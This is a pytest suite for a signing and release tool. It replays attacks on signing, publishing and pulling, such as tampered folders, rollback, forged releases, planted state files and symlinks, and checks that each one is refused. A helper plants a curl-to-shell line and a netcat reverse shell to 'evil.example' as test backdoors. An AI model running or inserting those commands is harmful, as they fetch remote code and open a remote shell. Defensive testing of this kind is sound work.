"""The attacks a security review ran against sign, verify, publish and pull, replayed end to end.

Each test is one attack, through the CLI, against a real S3 API on loopback (moto's server) where
a bucket is involved; each asserts that it fails closed, with its exit code and message. The
attacker has write access to the bucket or the working folder, never the signing key.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from scanner.cli import main
from scanner.treedigest import tree_manifest
from signing.encrypt import (
    ALGORITHM,
    FRAME_LENGTH,
    RawRsaKeyring,
    encrypt_file,
    encryption_context,
)
from signing.keys import KeyType, write_keypair
from tests.helpers.esdk import message_with_full_final_frame
from tests.helpers.keys import write_rsa_keypair
from tests.helpers.moto_server import FAKE_ENV, MotoServer, start_moto
from tests.helpers.project_builder import BuiltProject, ProjectSpec, build_project
from tests.helpers.s3_release import Bucket

FAST = ["--no-profile", "--offline", "--analyzers=-vulns,-sandbox", "--no-cache"]
PASSWORD = "attack-suite password"  # noqa: S105 - a throwaway test key's password
BUCKET = "releases"


@pytest.fixture(scope="module")
def moto() -> Iterator[MotoServer]:
    for server in start_moto():
        server.client("s3").create_bucket(Bucket=BUCKET)
        yield server


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("keys")
    priv, pub = write_keypair(d / "ci", KeyType.ECDSA_P256, PASSWORD.encode())
    write_rsa_keypair(d / "device.pem", d / "device.pub.pem")
    return {"sign": priv, "verify": pub, "enc": d / "device.pub.pem", "dec": d / "device.pem"}


@pytest.fixture(autouse=True)
def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PANORAMA_GATE_KEY_PASSWORD", PASSWORD)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg-state"))
    for k, v in FAKE_ENV.items():
        monkeypatch.setenv(k, v)


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main([str(a) for a in argv])
    return code, capsys.readouterr().err


def _publish(
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    target: Path,
    prefix: str,
    version: str,
    *extra: str,
) -> tuple[int, str]:
    return _run(
        capsys,
        "-q",
        "publish",
        target,
        "--to",
        f"s3://{BUCKET}/{prefix}",
        "--key",
        keys["sign"],
        "--encrypt-to",
        keys["enc"],
        "--endpoint-url",
        moto.url,
        "--app-version",
        version,
        *FAST,
        *extra,
    )


def _pull(
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    url: str,
    out: Path,
    *extra: str,
) -> tuple[int, str]:
    return _run(
        capsys,
        "-q",
        "pull",
        url,
        "-o",
        out,
        "--key",
        keys["verify"],
        "--decrypt-key",
        keys["dec"],
        "--endpoint-url",
        moto.url,
        *extra,
    )


def _scan(capsys: pytest.CaptureFixture[str], target: Path, report: Path) -> None:
    code, err = _run(capsys, "-q", "scan", target, *FAST, "--format", "json", "-o", report)
    assert code == 0, err


def _sign(
    capsys: pytest.CaptureFixture[str], keys: dict[str, Path], target: Path, report: Path, out: Path
) -> tuple[int, str]:
    return _run(capsys, "-q", "sign", target, "--key", keys["sign"], "--report", report, "-o", out)


# --- 1. folders are bound to the scan -----------------------------------------------------


def _backdoor(src: Path) -> None:
    app = src / "app.py"
    app.write_text(app.read_text() + "\nimport os\nos.system('curl evil.example | sh')\n")
    (src / "backdoor.sh").write_text("#!/bin/sh\nnc -e /bin/sh evil.example 4444\n")


def test_code_package_changed_after_the_scan_is_not_signed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], keys: dict[str, Path]
) -> None:
    proj = build_project(tmp_path / "app")
    pkg = next(proj.root.glob("packages/*-shelf_code-*"))
    _scan(capsys, pkg, tmp_path / "r.json")
    _backdoor(pkg / "src")
    code, err = _sign(capsys, keys, pkg, tmp_path / "r.json", tmp_path / "sigs")
    assert code == 1
    assert "not the one that was scanned" in err
    assert "src/app.py" in err
    assert "src/backdoor.sh" in err
    assert not (tmp_path / "sigs" / "attestation.sigstore.json").exists()


def test_unbuilt_code_package_in_a_project_changed_after_the_scan_is_not_signed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], keys: dict[str, Path]
) -> None:
    root = build_project(tmp_path / "app", ProjectSpec(breaks={"empty-assets"})).root
    _scan(capsys, root, tmp_path / "r.json")
    _backdoor(next(root.glob("packages/*-shelf_code-*/src")))
    code, err = _sign(capsys, keys, root, tmp_path / "r.json", tmp_path / "sigs")
    assert code == 1
    assert "digest-mismatch" in err
    assert "src/backdoor.sh" in err


def test_model_folder_changed_after_the_scan_is_not_signed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], keys: dict[str, Path]
) -> None:
    model = tmp_path / "saved"
    (model / "variables").mkdir(parents=True)
    (model / "saved_model.pb").write_bytes(b"")
    (model / "variables" / "variables.index").write_bytes(b"index")
    _scan(capsys, model, tmp_path / "r.json")
    report = json.loads((tmp_path / "r.json").read_text())
    assert report["artifacts"][0]["sha256"] == tree_manifest(model).digest
    (model / "variables" / "variables.index").write_bytes(b"swapped weights")
    code, err = _sign(capsys, keys, model, tmp_path / "r.json", tmp_path / "sigs")
    assert code == 1
    assert "variables/variables.index" in err
    # A mode change alone (a file made executable) is a change too.
    (model / "variables" / "variables.index").write_bytes(b"index")
    assert _sign(capsys, keys, model, tmp_path / "r.json", tmp_path / "sigs")[0] == 0
    os.chmod(model / "saved_model.pb", 0o755)
    code, err = _sign(capsys, keys, model, tmp_path / "r.json", tmp_path / "sigs")
    assert code == 1
    assert "saved_model.pb" in err


# --- 2. releases are pinned to their application and version ------------------------------


@pytest.fixture
def two_versions(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], moto: MotoServer, keys: dict[str, Path]
) -> tuple[str, BuiltProject]:
    """shelf_app 1.0.0 and 1.1.0 published under a prefix of their own; returns it and 1.0.0."""
    prefix = f"rollback-{tmp_path.name}"
    old = build_project(tmp_path / "old")
    new = build_project(tmp_path / "new", ProjectSpec(rootfs_files={"opt/fix.txt": b"CVE fixed"}))
    assert _publish(capsys, moto, keys, old.root, prefix, "1.0.0")[0] == 0
    assert _publish(capsys, moto, keys, new.root, prefix, "1.1.0")[0] == 0
    return prefix, old


def _forge(
    moto: MotoServer,
    keys: dict[str, Path],
    src: Bucket,
    dst: Bucket,
    plain_root: Path,
    application: str,
    version: str,
    work: Path,
) -> None:
    """Serve ``src``'s signed release at ``dst``: every file re-encrypted for the new path with
    the device's public key, the signed metadata copied, a new index written."""
    index = src.index()
    index.update(application=application, version=version)
    objects: dict[str, dict[str, object]] = {}
    for f in index["files"]:
        if f["sha256"] not in objects:  # files with the same bytes share one object
            objects[f["sha256"]] = dst.reencrypt(
                plain_root / f["name"], keys["enc"].read_bytes(), application, version, work
            )
        f["object"] = objects[f["sha256"]]
        f["context"] = encryption_context(f["sha256"], application=application, version=version)
        for sig in ("signature", "model_signature"):
            if f.get(sig):
                dst.copy_from(src, f[sig]["key"])
    for role in ("attestation", "report", "sbom", "licenses"):
        if index.get(role):
            dst.copy_from(src, index[role]["key"])
    dst.put_index(index)


def test_rollback_old_release_served_as_the_new_version_is_refused(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    two_versions: tuple[str, BuiltProject],
) -> None:
    prefix, old = two_versions
    s3 = moto.client("s3")
    src = Bucket(s3, BUCKET, f"{prefix}/shelf_app/1.0.0")
    dst = Bucket(s3, BUCKET, f"{prefix}/shelf_app/1.1.0")
    _forge(moto, keys, src, dst, old.root, "shelf_app", "1.1.0", tmp_path)
    url = f"s3://{BUCKET}/{prefix}/shelf_app/1.1.0"
    code, err = _pull(capsys, moto, keys, url, tmp_path / "out")
    assert code == 1
    assert "wrong-release" in err
    assert "signed for version '1.0.0', not the requested '1.1.0'" in err
    assert not (tmp_path / "out").exists()


def test_mix_and_match_release_served_as_another_app_is_refused(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    two_versions: tuple[str, BuiltProject],
) -> None:
    prefix, old = two_versions
    s3 = moto.client("s3")
    src = Bucket(s3, BUCKET, f"{prefix}/shelf_app/1.0.0")
    dst = Bucket(s3, BUCKET, f"{prefix}/door_app/1.0.0")
    _forge(moto, keys, src, dst, old.root, "door_app", "1.0.0", tmp_path)
    code, err = _pull(capsys, moto, keys, f"s3://{BUCKET}/{prefix}/door_app/1.0.0", tmp_path / "o")
    assert code == 1
    assert "signed for application 'shelf_app', not the requested 'door_app'" in err
    assert not (tmp_path / "o").exists()


def test_pinned_minimum_version_refuses_an_older_release(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    two_versions: tuple[str, BuiltProject],
) -> None:
    prefix, _ = two_versions
    url = f"s3://{BUCKET}/{prefix}/shelf_app/1.0.0"
    code, err = _pull(capsys, moto, keys, url, tmp_path / "a", "--min-version", "1.1.0")
    assert code == 1
    assert "rollback" in err
    assert "older than --min-version 1.1.0" in err
    assert _pull(capsys, moto, keys, url, tmp_path / "b", "--min-version", "1.0.0")[0] == 0
    # verify applies the same pins to a pulled release.
    meta = tmp_path / "b" / ".panorama-gate"
    verify = ["verify", tmp_path / "b", "--key", keys["verify"], "--signatures", meta]
    assert _run(capsys, *verify, "--app", "shelf_app", "--app-version", "1.0.0")[0] == 0
    code, err = _run(capsys, *verify, "--app-version", "1.1.0")
    assert code == 1
    assert "wrong-release" in err
    assert _run(capsys, *verify, "--min-version", "2.0")[0] == 1


@pytest.fixture
def release(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], moto: MotoServer, keys: dict[str, Path]
) -> tuple[Bucket, str, BuiltProject]:
    """One published release (its own prefix): the bucket view, its URL, the project."""
    prefix = f"one-{tmp_path.name}"
    proj = build_project(tmp_path / "app")
    assert _publish(capsys, moto, keys, proj.root, prefix, "1.0.0")[0] == 0
    rel = f"{prefix}/shelf_app/1.0.0"
    return Bucket(moto.client("s3"), BUCKET, rel), f"s3://{BUCKET}/{rel}", proj


def test_hostile_store_cannot_make_the_device_download_more_than_signed(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    release: tuple[Bucket, str, BuiltProject],
) -> None:
    bucket, url, _ = release
    index = bucket.index()
    target = min(index["files"], key=lambda f: f["size"])
    # 3 MiB where the signed plaintext is a few hundred bytes; the index claims it all.
    target["object"] = bucket.put(target["object"]["key"], os.urandom(3 * 1024 * 1024))
    bucket.put_index(index)
    code, err = _pull(capsys, moto, keys, url, tmp_path / "out")
    assert code == 1
    assert "more than an encryption of its signed" in err
    # A size in the index that is not the signed one is refused as well.
    index = bucket.index()
    index["files"][0]["size"] += 1
    bucket.put_index(index)
    code, err = _pull(capsys, moto, keys, url, tmp_path / "out")
    assert code == 1
    assert "the attestation" in err
    assert not (tmp_path / "out").exists()


# --- 3. pull keeps metadata under names it chooses -------------------------------------------


def test_index_named_metadata_cannot_replace_the_checked_report(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    release: tuple[Bucket, str, BuiltProject],
) -> None:
    bucket, url, _ = release
    index = bucket.index()
    signed = next(f for f in index["files"] if f.get("signature"))
    report_sha = index["report"]["sha256"]
    # The genuine signature, stored under keys whose last parts are the metadata file names.
    sig = bucket.get(signed["signature"]["key"])
    signed["signature"] = bucket.put("signatures/x/report.json", sig)
    bucket.put_index(index)
    code, err = _pull(capsys, moto, keys, url, tmp_path / "out")
    assert code == 0, err
    meta = tmp_path / "out" / ".panorama-gate"
    assert hashlib.sha256((meta / "report.json").read_bytes()).hexdigest() == report_sha
    fixed = {"index.json", "attestation.sigstore.json", "report.json", "sbom.cdx.json"}
    assert {p.name for p in meta.iterdir()} - fixed - {"licenses.json"} == {
        n for n in os.listdir(meta) if n.endswith(".sig")
    }
    # Attacker bytes under such a name: the signature check fails, nothing is written.
    signed["signature"] = bucket.put("signatures/y/sbom.cdx.json", b'{"bomFormat": "evil"}')
    bucket.put_index(index)
    code, err = _pull(capsys, moto, keys, url, tmp_path / "out2")
    assert code == 1
    assert "bad-detached-signature" in err
    assert not (tmp_path / "out2").exists()


# --- 4. publish trusts nothing in its state folder ------------------------------------------


def _state_for(root: Path, url: str) -> Path:
    return root / hashlib.sha256(url.encode()).hexdigest()[:24]


def test_planted_staged_ciphertext_is_not_uploaded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], moto: MotoServer, keys: dict[str, Path]
) -> None:
    proj = build_project(tmp_path / "app")
    prefix = f"planted-{tmp_path.name}"
    state_root = tmp_path / "state"
    staged = _state_for(state_root, f"s3://{BUCKET}/{prefix}/shelf_app/1.0.0")
    staged.mkdir(parents=True, mode=0o700)
    os.chmod(state_root, 0o700)
    # An attacker's ciphertext of other bytes, encrypted to the device, with a record claiming
    # it is the staged encryption of the container.
    evil = tmp_path / "evil.bin"
    evil.write_bytes(b"malware")
    ctx = encryption_context(_sha(evil), application="shelf_app", version="1.0.0")
    ring = RawRsaKeyring.from_public_pem(keys["enc"].read_bytes())
    forged = staged / f"{proj.container_sha}.enc"
    encrypt_file(evil, forged, ring, ctx)
    record = {"record": {"ciphertext_sha256": _sha(forged)}, "seal": "00" * 32}
    (staged / f"{proj.container_sha}.json").write_text(json.dumps(record))
    code, err = _publish(capsys, moto, keys, proj.root, prefix, "1.0.0", "--state-dir", state_root)
    assert code == 0, err
    url = f"s3://{BUCKET}/{prefix}/shelf_app/1.0.0"
    assert _pull(capsys, moto, keys, url, tmp_path / "out")[0] == 0
    pulled = tmp_path / "out" / proj.rel(proj.container_asset)  # type: ignore[arg-type]
    assert pulled.read_bytes() == proj.container_asset.read_bytes()  # type: ignore[union-attr]


def test_state_folder_others_can_write_or_own_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], moto: MotoServer, keys: dict[str, Path]
) -> None:
    proj = build_project(tmp_path / "app")
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)
    code, err = _publish(capsys, moto, keys, proj.root, "p", "1.0.0", "--state-dir", shared)
    assert code == 2
    assert "writable by group or others" in err
    foreign = tmp_path / "foreign"
    foreign.mkdir(mode=0o700)
    os.chown(foreign, 4242, 4242)
    code, err = _publish(capsys, moto, keys, proj.root, "p", "1.0.0", "--state-dir", foreign)
    assert code == 2
    assert "belongs to uid 4242" in err
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "elsewhere")
    code, err = _publish(capsys, moto, keys, proj.root, "p", "1.0.0", "--state-dir", link)
    assert code == 2
    assert "symbolic link" in err


def test_planted_link_in_the_state_folder_is_never_followed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], moto: MotoServer, keys: dict[str, Path]
) -> None:
    proj = build_project(tmp_path / "app")
    prefix = f"link-{tmp_path.name}"
    state_root = tmp_path / "state"
    staged = _state_for(state_root, f"s3://{BUCKET}/{prefix}/shelf_app/1.0.0")
    staged.mkdir(parents=True, mode=0o700)
    os.chmod(state_root, 0o700)
    victim = tmp_path / "ci-owned.txt"
    victim.write_text("the CI user's file\n")
    for name in (f"{proj.container_sha}.json", f"{proj.container_sha}.enc", ".record-key"):
        (staged / name).symlink_to(victim)
    code, err = _publish(capsys, moto, keys, proj.root, prefix, "1.0.0", "--state-dir", state_root)
    assert code == 0, err
    assert victim.read_text() == "the CI user's file\n"


def test_a_release_someone_else_published_first_is_not_taken_for_ours(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The attacker publishes the same files at the version's path first, signed with their own
    # key and encrypted to their own RSA key: the device could never decrypt it. publish must
    # not report "already published" for a release its key did not sign.
    proj = build_project(tmp_path / "app")
    prefix = f"squat-{tmp_path.name}"
    attacker = tmp_path / "attacker"
    attacker.mkdir()
    write_keypair(attacker / "k", KeyType.ECDSA_P256, PASSWORD.encode())
    write_rsa_keypair(attacker / "rsa.pem", attacker / "rsa.pub.pem")
    evil = {**keys, "sign": attacker / "k.key", "enc": attacker / "rsa.pub.pem"}
    assert _publish(capsys, moto, evil, proj.root, prefix, "1.0.0")[0] == 0
    code, err = _publish(capsys, moto, keys, proj.root, prefix, "1.0.0")
    assert code == 2
    assert "does not verify with this signing key" in err
    # Our own earlier publish of the same files is recognised: nothing to do.
    prefix2 = f"again-{tmp_path.name}"
    assert _publish(capsys, moto, keys, proj.root, prefix2, "1.0.0")[0] == 0
    monkeypatch.setenv("PANORAMA_GATE_KEY_PASSWORD", PASSWORD)
    code, err = _run(
        capsys,
        "publish",
        proj.root,
        "--to",
        f"s3://{BUCKET}/{prefix2}",
        "--key",
        keys["sign"],
        "--encrypt-to",
        keys["enc"],
        "--endpoint-url",
        moto.url,
        "--app-version",
        "1.0.0",
        *FAST,
    )
    assert code == 0, err
    assert "already published with the same files" in err


def test_default_state_folder_is_private_and_per_user(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], moto: MotoServer, keys: dict[str, Path]
) -> None:
    proj = build_project(tmp_path / "app")
    code, err = _publish(capsys, moto, keys, proj.root, f"d-{tmp_path.name}", "1.0.0")
    assert code == 0, err
    state = tmp_path / "xdg-state" / "panorama-gate" / "publish"
    assert stat.S_IMODE(state.stat().st_mode) == 0o700
    assert state.stat().st_uid == os.geteuid()


# --- 5. the private key is protected by a memory-hard KDF ------------------------------------


def test_keygen_protects_the_key_with_scrypt(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert _run(capsys, "keygen", "--out", "ci")[0] == 0
    text = (tmp_path / "ci.key").read_text().splitlines()
    assert text[0] == "-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY-----"
    import base64

    doc = json.loads(base64.b64decode("".join(text[1:-1])))
    assert doc["kdf"]["name"] == "scrypt"
    assert doc["kdf"]["params"]["N"] * doc["kdf"]["params"]["r"] * 128 >= 64 * 1024 * 1024
    assert "PBKDF2" not in (tmp_path / "ci.key").read_text()


# --- 6. the smaller ones --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda i: i["files"].append(dict(i["files"][0])), "lists a file more than once"),
        (lambda i: i["files"][0].update(size="12"), "size is not a non-negative integer"),
        (lambda i: i.update(files={"a": 1}), "lists no files"),
        (lambda i: i["files"][0].update(object=[]), "object is missing or not an object"),
        (lambda i: i.update(report="report.json"), "report is missing or not an object"),
    ],
    ids=["file-twice", "size-not-a-number", "files-not-a-list", "object-wrong-type", "report"],
)
def test_malformed_index_is_a_refusal_not_an_internal_error(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    moto: MotoServer,
    keys: dict[str, Path],
    release: tuple[Bucket, str, BuiltProject],
    edit: object,
    message: str,
) -> None:
    bucket, url, _ = release
    index = bucket.index()
    edit(index)  # type: ignore[operator]
    bucket.put_index(index)
    code, err = _pull(capsys, moto, keys, url, tmp_path / "out")
    assert code == 1
    assert "malformed-index" in err
    assert message in err


def test_verify_on_a_missing_target_is_bad_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], keys: dict[str, Path]
) -> None:
    code, err = _run(capsys, "verify", tmp_path / "absent", "--key", keys["verify"])
    assert code == 2
    assert "absent: target does not exist" in err


def test_sign_with_a_bad_report_is_bad_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], keys: dict[str, Path]
) -> None:
    proj = build_project(tmp_path / "app")
    (tmp_path / "r.json").write_text("{not json")
    code, err = _sign(capsys, keys, proj.root, tmp_path / "r.json", tmp_path / "s")
    assert code == 2
    assert "r.json: invalid report" in err
    code, err = _sign(capsys, keys, proj.root, tmp_path / "none.json", tmp_path / "s")
    assert code == 2
    assert "none.json: cannot read the report" in err


def test_reserialised_bundle_verifies(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], keys: dict[str, Path]
) -> None:
    proj = build_project(tmp_path / "app")
    _scan(capsys, proj.root, tmp_path / "r.json")
    assert _sign(capsys, keys, proj.root, tmp_path / "r.json", tmp_path / "s")[0] == 0
    bundle = tmp_path / "s" / "attestation.sigstore.json"
    bundle.write_text(json.dumps(json.loads(bundle.read_text()), indent=4))  # another tool's form
    verify = ["verify", proj.root, "--key", keys["verify"], "--signatures", tmp_path / "s"]
    assert _run(capsys, *verify)[0] == 0


def test_full_length_final_frame_from_another_sdk_pulls(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], moto: MotoServer, keys: dict[str, Path]
) -> None:
    import numpy as np

    model = tmp_path / "weights.npy"
    np.save(model, np.frombuffer(os.urandom(2 * FRAME_LENGTH - 128), dtype=np.uint8))
    assert model.stat().st_size == 2 * FRAME_LENGTH  # an exact multiple of the frame length
    prefix = f"frames-{tmp_path.name}"
    code, err = _publish(capsys, moto, keys, model, prefix, "1.0.0", "--app", "det")
    assert code == 0, err
    bucket = Bucket(moto.client("s3"), BUCKET, f"{prefix}/det/1.0.0")
    index = bucket.index()
    (f,) = index["files"]
    ring = RawRsaKeyring.from_public_pem(keys["enc"].read_bytes())
    ctx = encryption_context(f["sha256"], application="det", version="1.0.0")
    data = message_with_full_final_frame(
        model.read_bytes(), ring.provider(), ctx, ALGORITHM, FRAME_LENGTH
    )
    f["object"] = bucket.put(f["object"]["key"], data)
    bucket.put_index(index)
    code, err = _pull(capsys, moto, keys, f"s3://{BUCKET}/{prefix}/det/1.0.0", tmp_path / "out")
    assert code == 0, err
    assert (tmp_path / "out" / "weights.npy").read_bytes() == model.read_bytes()


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()
